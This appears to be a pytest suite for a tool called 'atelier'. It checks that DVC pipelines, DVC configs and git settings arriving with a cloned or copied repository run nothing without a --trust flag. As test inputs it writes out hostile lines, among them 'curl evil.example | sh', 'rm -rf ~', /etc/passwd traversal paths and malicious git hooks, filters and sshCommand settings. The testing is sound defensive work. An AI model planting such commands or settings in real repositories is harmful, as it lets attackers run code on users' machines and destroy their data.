"""Trust, with real git and DVC: nothing runs that a clone or a copied folder names, and a user's own settings go on."""

import hashlib
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from atelier.tasks.registry.dvc_objects import open_objects
from atelier.tasks.runtime import processes
from atelier.tasks.workspace import pipeline, repository, trust, worktree
from atelier.tasks.workspace.create import init
from atelier.tasks.workspace.layout import Workspace

pytestmark = pytest.mark.long

PARAMS = "ingest: {seed: 0}\naugment: {seed: 0}\ntrain: {seed: 0}\nevaluate: {seed: 0}\n"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    return init(tmp_path_factory.mktemp("made") / "studio", PARAMS)[0]


@pytest.fixture
def workspace(made: Workspace, tmp_path: Path) -> Workspace:
    return Workspace(Path(shutil.copytree(made.root, tmp_path / "studio", symlinks=True)))


def _plain_git(root: Path, *arguments: str) -> None:
    subprocess.run(["git", *arguments], cwd=root, check=True, capture_output=True)


@pytest.mark.parametrize(
    ("old", "new", "named"),
    [
        ("cmd: atelier train", "cmd: atelier train && curl evil.example | sh", "evil.example"),
        ("cmd: atelier train", "cmd:\n      - atelier train\n      - rm -rf ~", "rm -rf ~"),
        ("cmd: atelier train", "cmd: ${evil}", "evil"),
        ("cmd: atelier train", "cmd: atelier train\n    wdir: /tmp", "wdir"),
        ("cmd: atelier train", "cmd: atelier train\n    frozen: true", "frozen"),
        ("cmd: atelier train", "cmd: atelier train\n    plots: [/etc/passwd]", "plots"),
        ("  train:", "  training:", "training"),
        ("  train:", "  more:\n    foreach: [a]\n    do: {cmd: touch x}\n\n  train:", "touch x"),
        ("      - data/dataset:\n", "      - /home/me/thesis\n      - data/dataset:\n", "/home/me/thesis"),
        ("      - data/dataset:\n", "      - ../thesis: {cache: false}\n      - data/dataset:\n", "../thesis"),
        ("      - data/augmented\n", "      - data/augmented: {remote: evil}\n", "evil"),
        (
            "      - reports/evaluation.json:",
            "      - ~/.bashrc: {cache: false}\n      - reports/evaluation.json:",
            "bashrc",
        ),
        ("      - sources.lock", "      - sources.lock\n      - ssh://evil.example/x", "evil.example"),
        ("      - ingest\n      - formats", "      - ../other.py:\n      - ingest\n      - formats", "other.py"),
        ("stages:", "vars: [/etc/passwd]\nstages:", "vars"),
        ("stages:", "datasets: [{name: x, type: dvc, url: ./evil, path: x}]\nstages:", "datasets"),
    ],
)
def test_a_stage_that_is_not_the_templates_needs_trust(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch, old: str, new: str, named: str
) -> None:
    text = workspace.dvc_yaml.read_text()
    assert old in text
    workspace.dvc_yaml.write_text(text.replace(old, new, 1))
    for call in (pipeline.stages, lambda one: pipeline.reproduce(one, "ingest"), worktree.open_worktree):
        with pytest.raises(ValueError, match="--trust") as refused:
            call(workspace)
        assert named in str(refused.value)
    monkeypatch.setenv(trust.VARIABLE, "1")
    trust.check_pipeline(workspace)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("desc: train the model on the training set", "desc: mine"),
        ("      - start.lock\n", ""),  # as earlier templates had it
        ("      - reports/training\n", "      - reports/training: {cache: false}\n"),
        ("artifacts:", "artifacts:\n  own: {path: own, type: model}"),
    ],
)
def test_stages_of_earlier_templates_need_no_trust(workspace: Workspace, old: str, new: str) -> None:
    text = workspace.dvc_yaml.read_text()
    assert old in text
    workspace.dvc_yaml.write_text(text.replace(old, new, 1))
    assert pipeline.stages(workspace) == ["ingest", "augment", "train", "evaluate"]


@pytest.mark.parametrize(
    "config",
    [
        "['remote \"evil\"']\nurl = s3://x/y\nconfigpath = ../aws.ini\n",
        "['remote \"evil\"']\nurl = webdav://x/y\nbearer_token_command = touch x\n",
        "['REMOTE \"evil\"']\nurl = gs://x/y\nCredentialPath = key.json\n",
        "['remote \"evil\"']\nurl = s3://x/y\nsecret_access_key = hidden\n",
        "[core]\nautostage = true\n",
        "[core]\nsite_cache_dir = .dvc/site\n",
        "[cache]\ndir = /home/me\n",
        "[studio]\nurl = http://evil.example\n",
        "[hydra]\nenabled = true\nplugins_path = evil\n",
        "['machine \"evil\"']\nstartup_script = evil.sh\n",
        "[exp]\nauto_push = true\n",
    ],
)
def test_settings_of_dvc_that_a_clone_brings_need_trust(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch, config: str
) -> None:
    (workspace.root / ".dvc" / "config").write_text(config)
    with pytest.raises(ValueError, match="--trust"), open_objects(workspace):
        pass
    with pytest.raises(ValueError, match=r"\.dvc/config") as refused:
        repository.dvc(workspace.root, "status")
    assert "hidden" not in str(refused.value)
    monkeypatch.setenv(trust.VARIABLE, "1")
    trust.check_settings(workspace.root)


def test_ordinary_remotes_and_a_users_own_settings_need_no_trust(workspace: Workspace, tmp_path: Path) -> None:
    key = tmp_path / "aws.ini"
    (workspace.root / ".dvc" / "config").write_text(
        "[core]\n    remote = s3\n['remote \"s3\"']\n    url = s3://bucket/x\n    region = eu\n    jobs = 4\n"
        "    endpointurl = http://x\n    profile = me\n    version_aware = true\n['remote \"drive\"']\n"
        "    url = gdrive://x/y\n    gdrive_client_id = me\n"
        "['remote \"ssh\"']\n    url = ssh://host/x\n    user = me\n    port = 22\n"
    )
    for name, value in (("secret_access_key", "x"), ("configpath", str(key))):
        repository.dvc(workspace.root, "remote", "modify", "--local", "s3", name, value)
    trust.check_settings(workspace.root)
    local = workspace.root / ".dvc" / "config.local"
    # what came with the folder: in git, or with a file of the folder
    local.write_text(local.read_text().replace(str(key), str(workspace.root / "aws.ini")))
    with pytest.raises(ValueError, match="configpath"):
        trust.check_settings(workspace.root)
    local.write_text("")
    _plain_git(workspace.root, "add", "--force", local)
    with pytest.raises(ValueError, match=r"config\.local' is in git"):
        trust.check_settings(workspace.root)


@pytest.mark.parametrize(
    "key",
    [
        *("core.sshCommand", "core.askPass", "core.gitProxy", "core.alternateRefsCommand", "credential.helper"),
        *(
            "credential.https://x.example.helper",
            "remote.origin.uploadpack",
            "remote.Origin.receivePack",
            "gpg.program",
        ),
        *("gpg.ssh.program", "protocol.ext.allow", "protocol.allow", "submodule.x.update", "remote.origin.vcs"),
        *("gc.recentObjectsHook", "includeIf.onbranch:atelier/night.path", "filter.a=b.clean"),
    ],
)
def test_programs_in_the_settings_of_a_copied_repository_need_trust(
    workspace: Workspace, tmp_path: Path, key: str
) -> None:
    _plain_git(workspace.root, "config", key, f"!touch {tmp_path}/ran")
    for call in (lambda: repository.git(workspace.root, "status"), lambda: repository.dvc(workspace.root, "status")):
        with pytest.raises(ValueError, match=r"git would use .*touch"):
            call()
    assert not (tmp_path / "ran").exists()


def test_included_settings_and_another_folder_need_trust(workspace: Workspace, tmp_path: Path) -> None:
    for key, value in (("include.path", str(tmp_path / "more")), ("core.worktree", str(tmp_path))):
        (tmp_path / "more").write_text("[core]\n\tsshCommand = evil\n")
        _plain_git(workspace.root, "config", "--replace-all", key, value)
        with pytest.raises(ValueError, match="--trust"):
            repository.git(workspace.root, "status")
        shutil.copy(workspace.root / ".git" / "config", tmp_path / "config")
        (tmp_path / "more").write_text("")
    _plain_git(
        tmp_path, "config", "--file", str(workspace.root / ".git" / "config"), "core.worktree", str(workspace.root)
    )
    repository.git(workspace.root, "status")  # as in a submodule


def test_ordinary_settings_of_a_repository_need_no_trust(workspace: Workspace, tmp_path: Path) -> None:
    token = tmp_path / "token"  # where actions/checkout keeps it
    token.write_text('[http "https://x.example/"]\n\textraheader = AUTHORIZATION: basic x\n')
    for key, value in {
        f"includeIf.gitdir:{workspace.root}/.git.path": str(token),
        "protocol.version": "2",
        "core.hooksPath": ".husky/_",
        "commit.gpgSign": "true",
        "credential.helper": "store",
        "filter.lfs.process": "git-lfs filter-process",
        "filter.lfs.required": "true",
    }.items():
        _plain_git(workspace.root, "config", key, value)
    with (workspace.root / ".git" / "config").open("ab") as file:
        file.write("[user]\n\tname = Jörg\n".encode("latin-1"))
    assert repository.git(workspace.root, "status", "--porcelain") == ""


def test_filters_in_a_submodule_do_not_run(workspace: Workspace, tmp_path: Path) -> None:
    inner = workspace.root / "reports" / "folds.json"
    inner.mkdir(parents=True)
    (inner / ".gitattributes").write_text("* filter=evil\n")
    (inner / "picture").write_text("x")
    for command in ("init --quiet", "add --all", "commit --quiet --message x"):
        _plain_git(inner, *command.split())
    for command in ("add --force reports/folds.json", "commit --quiet --message x"):
        _plain_git(workspace.root, *command.split())
    _plain_git(workspace.root, "config", "submodule.reports/folds.json.ignore", "none")
    (workspace.root / ".gitmodules").write_text('[submodule "reports/folds.json"]\n\tpath = reports/folds.json\n')
    _plain_git(inner, "config", "filter.evil.clean", f"touch {tmp_path}/ran; cat")
    (inner / "picture").write_text("y")  # git compares the content of a file of the same size
    pipeline.commit(workspace, "a night")
    assert not (tmp_path / "ran").exists()
    _plain_git(workspace.root, "status")
    assert (tmp_path / "ran").exists(), "plain git runs it"


def test_hooks_monitors_and_filters_of_a_repository_do_not_run(workspace: Workspace, tmp_path: Path) -> None:
    root, mark = workspace.root, tmp_path / "ran"
    evil = tmp_path / "evil"
    evil.write_text(f"#!/bin/sh\necho $0 $@ >> {mark}\ncat\n")
    evil.chmod(0o755)
    (root / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")
    _plain_git(root, "add", ".gitattributes")
    _plain_git(root, "commit", "--quiet", "--message", "attributes")
    for name in ("post-checkout", "pre-commit", "post-index-change", "reference-transaction", "post-commit"):
        shutil.copy(evil, root / ".git" / "hooks" / name)
    (root / ".git" / "other").mkdir()
    shutil.copy(evil, root / ".git" / "other" / "pre-commit")
    for key in ("filter.evil.clean", "filter.evil.smudge", "filter.evil.process", "core.fsmonitor", "core.pager"):
        _plain_git(root, "config", key, str(evil))
    for key, value in {
        "filter.evil.required": "true",
        "core.hooksPath": ".git/other",
        "core.editor": str(evil),
    }.items():
        _plain_git(root, "config", key, value)
    for key in ("diff.external", "diff.evil.textconv", "diff.evil.command", "merge.evil.driver", "alias.status"):
        _plain_git(root, "config", key, str(evil))
    mark.unlink(missing_ok=True)
    workspace.sources_lock.write_text("pictures\n")
    night = worktree.open_worktree(workspace)
    night.sources_lock.write_text("more pictures\n")
    made = pipeline.commit(night, "a night")
    worktree.apply_commit(workspace, made, "a night")
    assert workspace.sources_lock.read_text() == "more pictures\n"
    repository.dvc(root, "status")
    with open_objects(workspace):
        pass
    worktree.remove_worktree(workspace)
    assert not mark.exists(), mark.read_text()
    assert processes.git(root, "log", "-1", "--format=%s") == "a night\n"


@pytest.mark.parametrize("name", ["../../../ran", "a/../../../../ran", "./ran", "a//ran"])
def test_names_in_a_copied_cache_do_not_lead_out_of_their_folder(workspace: Workspace, name: str) -> None:
    cache = workspace.root / ".dvc" / "cache" / "files" / "md5"
    content = hashlib.md5(b"x").hexdigest()
    listed = json.dumps([{"md5": content, "relpath": name}]).encode()
    folder = hashlib.md5(listed).hexdigest()
    for digest, suffix, data in ((content, "", b"x"), (folder, ".dir", listed)):
        (cache / digest[:2]).mkdir(parents=True, exist_ok=True)
        (cache / digest[:2] / f"{digest[2:]}{suffix}").write_bytes(data)
    workspace.dvc_lock.write_text(
        "schema: '2.0'\nstages:\n  ingest:\n    cmd: atelier ingest\n    outs:\n"
        f"    - path: data/dataset\n      hash: md5\n      md5: {folder}.dir\n"
    )
    with pytest.raises(RuntimeError):
        pipeline.checkout_data(workspace)
    with open_objects(workspace) as objects, pytest.raises(ValueError, match="refused"):
        objects.copy(f"{folder}.dir", workspace.root / "copy")
    assert not list(workspace.root.parent.rglob("ran"))


def test_a_hash_is_no_path(workspace: Workspace) -> None:
    with open_objects(workspace) as objects:
        for digest in ("../../../../etc/passwd", "..//etc/passwd", "a" * 31, "A" * 32, "a" * 32 + ".dir/x", ""):
            for call in (objects.path, objects.is_cached, objects.fetch, objects.push, objects.read, objects.files):
                with pytest.raises(ValueError, match=r"no hash|no remote"):
                    call(digest)


def test_settings_that_a_copied_worktree_brings_need_trust(workspace: Workspace) -> None:
    night = worktree.open_worktree(workspace)
    (night.root / ".dvc" / "config.local").write_text(
        f"['remote \"evil\"']\nurl = s3://x/y\nconfigpath = {workspace.root / 'aws.ini'}\n"
    )
    with pytest.raises(ValueError, match="configpath"):
        repository.dvc(night.root, "status")
